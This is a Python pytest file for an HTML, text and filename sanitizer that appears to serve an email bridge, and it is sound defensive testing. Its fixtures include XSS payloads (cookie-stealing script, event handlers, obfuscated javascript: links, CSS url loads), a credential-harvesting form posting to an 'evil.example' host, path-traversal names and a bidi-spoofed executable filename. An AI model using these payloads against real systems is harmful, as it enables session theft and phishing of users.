"""Sender HTML, text and file names made safe to store and show."""

from __future__ import annotations

import pytest

from bridges.sanitize import html_to_text, remove_control_chars, safe_filename, sanitize_html


def test_script_elements_are_removed_with_their_content() -> None:
    cleaned = sanitize_html("<p>hi</p><script>steal(document.cookie)</script>")
    assert cleaned == "<p>hi</p>"


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="cid:a" onerror="alert(1)">',
        '<p onclick="alert(1)">x</p>',
        '<a href="https://example.com" onmouseover="alert(1)">x</a>',
        '<body onload="alert(1)">x</body>',
    ],
)
def test_event_handler_attributes_are_removed(markup: str) -> None:
    assert "alert" not in sanitize_html(markup)


@pytest.mark.parametrize(
    "href",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "jav&#x09;ascript:x"],
)
def test_javascript_links_lose_their_href(href: str) -> None:
    cleaned = sanitize_html(f'<a href="{href}">x</a>')
    assert "href" not in cleaned
    assert ">x</a>" in cleaned


@pytest.mark.parametrize(
    "markup",
    [
        '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    ],
)
def test_data_urls_are_removed(markup: str) -> None:
    assert "data:" not in sanitize_html(markup)


def test_forms_inputs_and_buttons_are_removed() -> None:
    cleaned = sanitize_html(
        '<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password"><button type="submit">Log in</button></form>'
    )
    for fragment in ("<form", "<input", "<button", "action=", "evil.example"):
        assert fragment not in cleaned


@pytest.mark.parametrize(
    "markup",
    [
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<frameset><frame src="https://evil.example/"></frameset>',
    ],
)
def test_frames_objects_and_embeds_are_removed(markup: str) -> None:
    assert "evil.example" not in sanitize_html(markup)


def test_style_elements_are_removed_with_their_content() -> None:
    cleaned = sanitize_html(
        "<style>body { background: url(https://evil.example/t) }</style><p>x</p>"
    )
    assert cleaned == "<p>x</p>"


@pytest.mark.parametrize(
    "style",
    [
        "color:red; background-color: url(https://evil.example/t)",
        "color:red; @import 'https://evil.example/t.css'",
        "width: expression(alert(1))",
        "border: 1px solid image-set('https://evil.example/t' 1x)",
        "color: \\75rl(https://evil.example/t)",
        "color: u&#114;l(https://evil.example/t)",
        "color: ur/**/l(https://evil.example/t)",
    ],
)
def test_style_attributes_that_could_load_or_run_anything_are_dropped(style: str) -> None:
    cleaned = sanitize_html(f'<p style="{style}">x</p>')
    assert cleaned == "<p>x</p>"


def test_presentational_style_is_kept_and_positioning_dropped() -> None:
    cleaned = sanitize_html('<p style="color: red; position: fixed; top: 0">x</p>')
    assert cleaned == '<p style="color:red">x</p>'


def test_remote_images_lose_their_source_by_default() -> None:
    cleaned = sanitize_html('<img src="https://track.example/p.gif" alt="logo">')
    assert "track.example" not in cleaned
    assert 'alt="logo"' in cleaned


def test_remote_images_are_kept_when_allowed() -> None:
    cleaned = sanitize_html('<img src="https://cdn.example/a.png">', allow_remote_images=True)
    assert cleaned == '<img src="https://cdn.example/a.png">'


def test_inline_cid_images_are_kept() -> None:
    cleaned = sanitize_html('<img src="cid:logo@example.com" alt="logo">')
    assert cleaned == '<img src="cid:logo@example.com" alt="logo">'


@pytest.mark.parametrize(
    "href", ["https://example.com/a?b=1", "http://example.com/", "mailto:ann@example.com"]
)
def test_links_are_kept_with_a_safe_rel(href: str) -> None:
    cleaned = sanitize_html(f'<a href="{href}" rel="opener" target="_blank">x</a>')
    assert f'href="{href.replace("&", "&amp;")}"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert "target" not in cleaned


def test_relative_links_are_removed() -> None:
    assert "href" not in sanitize_html('<a href="/api/v1/messages">x</a>')


def test_classes_and_ids_are_removed() -> None:
    assert sanitize_html('<div class="admin" id="top">x</div>') == "<div>x</div>"


def test_html_to_text_strips_tags_and_decodes_entities() -> None:
    html = sanitize_html("<p>Fish &amp; chips &lt;today&gt;</p><p>second\n   line</p>a<br>b")
    assert html_to_text(html) == "Fish & chips <today>\n\nsecond line\na\nb"


def test_control_characters_and_bidi_overrides_are_removed() -> None:
    assert remove_control_chars("a\x00b\x1bc\u202ed\u2066e\tf\x85g") == "abcde fg"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\evil\\x.exe", "x.exe"),
        ("C:evil.exe", "evil.exe"),
        ("a\x00b.txt", "ab.txt"),
        (".hidden", "hidden"),
        ("...", None),
        ("  ", None),
        ("", None),
        ("dir/", None),
        ("a..b.txt", "ab.txt"),
        ("report   final\t.pdf", "report final .pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("Résumé 履歴書.pdf", "Résumé 履歴書.pdf"),
        ("Re\u0301sume\u0301.pdf", "Résumé.pdf"),
    ],
)
def test_safe_filename(name: str, expected: str | None) -> None:
    assert safe_filename(name) == expected


def test_safe_filename_of_none_is_none() -> None:
    assert safe_filename(None) is None


def test_long_filenames_are_cut_to_255_bytes_keeping_the_extension() -> None:
    cut = safe_filename("a" * 300 + ".pdf")
    assert cut == "a" * 251 + ".pdf"


def test_long_non_ascii_filenames_are_cut_on_a_character_boundary() -> None:
    cut = safe_filename("履" * 300 + ".pdf")
    assert cut is not None
    assert cut.endswith(".pdf")
    assert len(cut.encode("utf-8")) <= 255
    assert set(cut[:-4]) == {"履"}


def test_long_filenames_without_an_extension_are_cut_to_255_bytes() -> None:
    assert safe_filename("é" * 300) == "é" * 127
